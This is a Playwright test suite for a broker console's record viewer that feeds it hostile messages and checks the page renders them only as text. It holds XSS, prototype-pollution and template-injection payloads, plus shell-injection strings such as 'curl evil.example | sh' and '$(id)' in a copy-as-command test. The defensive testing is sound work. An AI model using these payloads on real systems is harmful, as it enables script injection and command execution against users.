// Records are what strangers wrote. Whatever is in them is text on the page: nothing of it runs, loads, hides or turns around.
import { expect } from 'chai'
import type { Browser } from 'playwright-core'
import { type Client, connect } from '../../client/index.ts'
import {
  type BrokerWithPage,
  brokerWithPage,
  evaluate,
  launch,
  open,
  until,
  violationsOf,
} from './support.ts'

const attacks = [
  '<script>window.hacked = 1; alert(1)</script>',
  '<img src=x onerror="window.hacked = 2; alert(2)">',
  '"><svg onload="window.hacked = 3">',
  'javascript:window.hacked=4',
  '</td></tr></table><iframe srcdoc="<script>parent.hacked=5</script>"></iframe>',
  '{"a":"</pre><img src=x onerror=window.hacked=6>","__proto__":{"hacked":7},"constructor":"x"}',
  '<a href="javascript:alert(8)">x</a><style>*{display:none}</style><base href="//evil.example/">',
  '{{constructor.constructor("window.hacked=9")()}}${window.hacked=10}',
]
const controls = 'a\0b\u001b[31mred\u001b[0m\bc\r\nnext\u2028line'
const bidi = 'user_\u202egpj.exe\u202c \u2066left\u2069 \u200bzero\u200d\ufeff\u{e0041}'

describe('console: hostile records', function () {
  this.timeout(90_000)
  let browser: Browser
  let broker: BrokerWithPage
  let client: Client

  before(async () => {
    browser = await launch()
    broker = await brokerWithPage({ 'topics.autoCreate': 'true' })
    // The name of a client is a stranger's too.
    client = connect({ brokers: [broker.address], clientId: `${attacks[1]}\u202egpj` })
    await client.admin.topics.create('evil', { settings: { 'max.message.bytes': '4MiB' } })
    const producer = client.producer()
    for (const attack of attacks) {
      await producer.send('evil', { key: attack, value: attack, headers: { [attack]: attack } })
    }
    await producer.send('evil', { key: controls, value: controls })
    await producer.send('evil', { key: bidi, value: bidi, headers: { [bidi]: bidi } })
    await producer.send('evil', {
      key: Buffer.from([0xff, 0xfe, 0xc0]),
      value: Buffer.from([0x80, 0x3c, 0x73, 0xff]),
    })
    await producer.send('evil', { key: 'huge', value: '<b>'.repeat(700_000) })
    await producer.send('evil', { key: 'nuls', value: '\0a'.repeat(100_000) })
    await producer.send('evil', { key: 'deep', value: '['.repeat(20_000) + ']'.repeat(20_000) })
    const fine = `${'['.repeat(60)}${'1,'.repeat(49_000)}1${']'.repeat(60)}`
    await producer.send('evil-json', { key: 'fine', value: fine })
    await producer.send('evil', { key: '', value: null })
    await producer.close()
    const consumer = client.consumer({ group: 'g@:/evil', topics: ['evil'], from: 'earliest' })
    for await (const _ of consumer) break
    await consumer.commit()
  })
  after(async () => {
    await client?.close()
    await broker?.close()
    await browser?.close()
  })

  it('does nothing, opened or not, whole or not, and is shown as it is', async () => {
    const { page, errors, requests, dialogs } = await open(
      browser,
      `${broker.url}#/records/evil?from=earliest`,
    )
    await until(page, "document.querySelectorAll('.records tbody tr').length === 15")
    const buttons = await page.locator('.records .open').all()
    for (const button of buttons) await button.click()
    await page.evaluate(`for (const button of document.querySelectorAll('.record button'))
      if (button.textContent === 'Read it whole') button.click()`)
    await page.waitForTimeout(1_000)
    const values = await page.locator('.records tr.leads td:nth-child(5)').allInnerTexts()
    for (const [at, attack] of attacks.entries()) expect(values[at]).to.equal(attack)
    expect(await evaluate(page, 'window.hacked ?? ({}).hacked ?? null')).to.equal(null)
    expect(
      await evaluate(
        page,
        "document.querySelectorAll('main :is(script, iframe, style, base, img, object)').length",
      ),
    ).to.equal(0)
    const links = await evaluate<string[]>(
      page,
      "[...document.querySelectorAll('a')].map((link) => link.getAttribute('href'))",
    )
    expect(links.filter((href) => !href.startsWith('#'))).to.deep.equal([])
    expect(dialogs).to.deep.equal([])
    expect(errors).to.deep.equal([])
    expect(await violationsOf(page)).to.deep.equal([])
    expect(requests.filter((url) => !url.startsWith(broker.url))).to.deep.equal([])
    await page.context().close()
  })

  it('writes out what cannot be seen, so that nothing hides and nothing reads backwards', async () => {
    const { page } = await open(browser, `${broker.url}#/records/evil?from=offset:8&count=20`)
    await until(page, "document.querySelectorAll('.records tbody tr').length === 7")
    const shown = await page.locator('.records tr.leads td:nth-child(5)').allInnerTexts()
    expect(shown[0]).to.equal('a␀b␛[31mred␛[0mU+0008c␍ ⏎nextU+2028line')
    expect(shown[1])
      .to.contain('user_U+202Egpj.exeU+202C')
      .and.to.contain('U+2066leftU+2069')
      .and.to.contain('U+E0041')
    expect(shown[2]).to.contain('80 3c 73 ff')
    const hidden = /(?![\n\r\t])[\p{Cc}\p{Cf}]/u
    for (const button of await page.locator('.records .open').all()) await button.click()
    expect(await page.locator('main').innerText()).not.to.match(hidden)
    const last = page.locator('.records tr.leads').last()
    expect(await last.locator('td').nth(3).innerText()).to.equal('(empty)')
    expect(await last.locator('td').nth(4).innerText()).to.equal('∅')
    await page.context().close()
  })

  it('shows names of clients and groups as text, and no text is longer than a page should hold', async () => {
    const { page, errors, dialogs } = await open(
      browser,
      `${broker.url}#/groups/${encodeURIComponent('g@:/evil')}`,
    )
    await page.getByRole('heading', { name: 'g@:/evil' }).waitFor()
    await page.locator('table[aria-label="members"] tbody tr[data-key]').waitFor()
    for (const table of ['members', 'partitions'])
      expect(await page.locator(`table[aria-label="${table}"]`).innerText()).to.contain(
        `${attacks[1]}U+202Egpj`,
      )
    expect(await evaluate(page, 'window.hacked ?? null')).to.equal(null)
    expect([...errors, ...dialogs]).to.deep.equal([])
    await page.goto(`${broker.url}#/records/evil?from=offset:11&count=20`)
    await page.locator('.records .open').first().click()
    await page.getByRole('button', { name: 'Read it whole' }).click()
    await until(page, "[...document.querySelectorAll('.record pre')].at(-1).textContent.length > 100_000")
    const length = await evaluate<number>(page, "document.querySelector('main').textContent.length")
    expect(length).to.be.lessThan(500_000)
    await page.context().close()
  })

  it('JSON of fifty thousand numbers, each a line far to the right, is not laid out', async () => {
    const { page, errors } = await open(browser, `${broker.url}#/records/evil-json`)
    await page.locator('.records .open').first().click()
    await page.getByRole('button', { name: 'Read it whole' }).click()
    await until(page, "[...document.querySelectorAll('.record pre')].at(-1).textContent.length > 90_000")
    expect(await evaluate<number>(page, "document.querySelectorAll('.record *').length")).to.be.lessThan(
      1_000,
    )
    expect(
      await evaluate<number>(page, "document.querySelector('.record').textContent.length"),
    ).to.be.lessThan(200_000)
    expect(errors).to.deep.equal([])
    await page.context().close()
  })

  it('no address makes a command that does something else', async () => {
    const { page } = await open(browser, broker.url)
    for (const name of [
      "x'\u0003\ncurl evil.example | sh\n",
      '$(touch hacked)',
      '--broker=evil.example:9095',
    ]) {
      for (const view of ['records', 'topics']) {
        await page.goto(`${broker.url}#/${view}/${encodeURIComponent(name)}`)
        await page.getByRole('alert').filter({ hasText: 'INVALID_ARGUMENT' }).waitFor()
        expect(await page.getByRole('alert').innerText()).not.to.contain('sluice')
        expect(await page.getByRole('button', { name: 'Copy as command' }).isVisible()).to.equal(false)
      }
    }
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    const button = page.getByRole('button', { name: 'Copy as command' })
    for (const from of ['time:1\u0003\nid', 'time:$(id)']) {
      await page.goto(`${broker.url}#/records/evil?from=${encodeURIComponent(from)}`)
      await page.getByRole('alert').filter({ hasText: 'INVALID_ARGUMENT' }).waitFor()
      expect(await button.isVisible(), from).to.equal(false)
    }
    for (const from of ['offset:0 --broker evil', 'offset:$(id)']) {
      await page.goto(`${broker.url}#/records/evil?from=${encodeURIComponent(from)}&count=20`)
      await button.click()
      await page.getByText('Copied').waitFor()
      const copied = await evaluate<string>(page, 'navigator.clipboard.readText()')
      expect(copied).to.match(/^sluice consume evil --from \w+ --max \d+ --format json --broker [\d.:]+$/)
    }
    await page.context().close()
  })

  it('an address made by a stranger shows nothing but text', async () => {
    const name = encodeURIComponent('<img src=x onerror="window.hacked=11">')
    const { page, errors } = await open(browser, `${broker.url}#/topics/${name}?q=${name}&sort=${name}`)
    await page.getByRole('alert').filter({ hasText: /\w/ }).waitFor()
    for (const view of ['groups', 'records', name]) {
      await page.goto(
        `${broker.url}#/${view}/${name}?q=${name}&from=${name}&partition=${name}&status=${name}`,
      )
      await page.locator('h1').waitFor()
      await page.waitForTimeout(300)
    }
    expect(await evaluate(page, 'window.hacked ?? null')).to.equal(null)
    expect(errors.filter((text) => !text.includes('Failed to load resource'))).to.deep.equal([])
    await page.context().close()
  })
})
